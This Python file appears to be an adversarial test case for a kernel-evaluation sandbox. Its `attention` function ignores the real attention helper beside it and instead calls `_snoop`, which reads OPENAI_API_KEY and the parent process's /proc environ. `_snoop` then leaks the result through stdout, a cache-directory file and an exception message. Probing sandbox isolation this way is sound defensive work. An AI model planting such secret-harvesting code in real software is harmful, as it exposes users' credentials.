"""Class 9 (secrets): looks for an API key in its environment and in the parent's /proc environ.

Whatever it finds it prints, writes into the shared cache directory and raises in an
exception message, the three ways a value could travel back to the orchestrator."""
import torch


def _math(q, k, v, causal, scale):
    """Returns softmax(q kᵀ·scale [+ causal]) v computed in float32, in q's dtype."""
    s = torch.matmul(q.float(), k.float().transpose(-1, -2)) * scale
    if causal:
        n = q.shape[-2]
        s = s.masked_fill(torch.ones(n, n, dtype=torch.bool, device=q.device).triu(1),
                          float("-inf"))
    return torch.matmul(torch.softmax(s, dim=-1), v.float()).to(q.dtype)


import os


def _snoop():
    found = [os.environ.get("OPENAI_API_KEY", "no-key-in-env")]
    for path in (f"/proc/{os.getppid()}/environ", f"/proc/self/../{os.getppid()}/environ"):
        try:
            with open(path, "rb") as f:
                found.append(f.read().decode(errors="replace"))
        except OSError as e:
            found.append(f"{path}: {e}")
    text = " | ".join(found)
    print("LEAK:", text, flush=True)
    cache = os.environ.get("TRITON_CACHE_DIR")
    if cache:
        os.makedirs(cache, exist_ok=True)
        with open(os.path.join(cache, "leak.txt"), "w") as f:
            f.write(text)
    return text


def attention(q, k, v, causal=False, scale=None):
    raise RuntimeError("LEAK: " + _snoop()[:2000])
